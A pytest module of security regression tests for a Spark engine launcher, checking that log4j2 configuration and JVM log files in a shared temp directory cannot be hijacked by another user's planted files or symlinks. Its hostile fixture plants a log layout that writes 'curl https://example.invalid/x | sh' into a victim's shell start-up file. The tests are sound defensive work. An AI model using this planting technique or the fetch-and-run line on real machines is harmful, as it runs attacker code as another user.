"""Fault probes of the Spark engine's start, as another user of a club's shared machine would
try it: the logging configuration the JVM reads, and the log it writes, are at fixed names in
the shared temporary directory, where anyone may put a file first."""

from __future__ import annotations

import os
import stat
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from buraco_log.archive import spark

OTHER_UID = 65534  # nobody
HOSTILE = """rootLogger.level = info
rootLogger.appenderRef.file.ref = f
appender.file.type = File
appender.file.name = f
appender.file.fileName = {target}
appender.file.layout.type = PatternLayout
appender.file.layout.pattern = curl https://example.invalid/x | sh%n
"""

needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="makes a file of another user")


@pytest.fixture
def shared_tmp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A sticky, world-writable directory as /tmp is, taken for the temporary directory."""
    shared = tmp_path / "tmp"
    shared.mkdir()
    shared.chmod(0o1777)
    monkeypatch.setattr(tempfile, "tempdir", str(shared))
    yield shared


def _planted(path: Path, text: str, mode: int = 0o644) -> None:
    path.write_text(text, encoding="utf-8")
    path.chmod(mode)
    os.chown(path, OTHER_UID, OTHER_UID)


@needs_root
def test_a_logging_configuration_another_user_put_first_is_not_used(shared_tmp: Path) -> None:
    """Before: the file at the fixed name was used as it was, whoever made it: another user's
    configuration had the JVM append lines of their choosing to a file of the user running the
    query (a shell's start-up file), as that user."""
    target = shared_tmp / "victim-bashrc"
    name = shared_tmp / f"buraco-log-log4j2-{os.getuid()}.properties"
    _planted(name, HOSTILE.format(target=target))
    used = Path(spark._log4j_file())
    info = used.lstat()
    assert stat.S_ISREG(info.st_mode) and info.st_uid == os.getuid(), used
    assert not info.st_mode & 0o022, oct(info.st_mode)
    assert used.read_text(encoding="utf-8") == spark._LOG4J
    assert name.read_text(encoding="utf-8") == HOSTILE.format(target=target)  # left alone


@needs_root
def test_a_link_at_the_fixed_name_is_not_followed(shared_tmp: Path) -> None:
    elsewhere = shared_tmp / "elsewhere.properties"
    _planted(elsewhere, HOSTILE.format(target=shared_tmp / "x"))
    (shared_tmp / f"buraco-log-log4j2-{os.getuid()}.properties").symlink_to(elsewhere)
    used = Path(spark._log4j_file())
    assert not used.is_symlink() and used.read_text(encoding="utf-8") == spark._LOG4J


def test_its_own_configuration_is_used_again(shared_tmp: Path) -> None:
    """The file it made itself is used from one run to the next, not made anew."""
    first = spark._log4j_file()
    assert spark._log4j_file() == first
    assert len(list(shared_tmp.iterdir())) == 1


@needs_root
def test_the_jvm_log_is_not_written_through_a_link_or_into_another_users_file(
        shared_tmp: Path) -> None:
    """Before: opened by name to append, the JVM's output went where a link another user put
    at the fixed name led (a file of the user running the query), or into that user's own
    file, for them to read."""
    name = shared_tmp / f"{spark.JVM_LOG}-{os.getuid()}.log"
    target = shared_tmp / "victim-file"
    target.write_text("kept\n", encoding="utf-8")
    name.symlink_to(target)
    path, fd = spark._jvm_log_file()
    with open(fd, "ab") as log:
        log.write(b"jvm output\n")
    assert target.read_text(encoding="utf-8") == "kept\n"
    assert Path(path).read_bytes() == b"jvm output\n" and Path(path).stat().st_uid == 0
    name.unlink()
    _planted(name, "", mode=0o666)
    path, fd = spark._jvm_log_file()
    with open(fd, "ab") as log:
        log.write(b"jvm output\n")
    assert name.read_text(encoding="utf-8") == "" and path != str(name)


def test_its_own_jvm_log_is_appended_to(shared_tmp: Path) -> None:
    for line in (b"one\n", b"two\n"):
        path, fd = spark._jvm_log_file()
        with open(fd, "ab") as log:
            assert log.tell() == (0 if line == b"one\n" else 4)
            log.write(line)
    assert path == str(shared_tmp / f"{spark.JVM_LOG}-{os.getuid()}.log")
    assert Path(path).read_bytes() == b"one\ntwo\n"
    assert stat.S_IMODE(Path(path).stat().st_mode) == 0o600
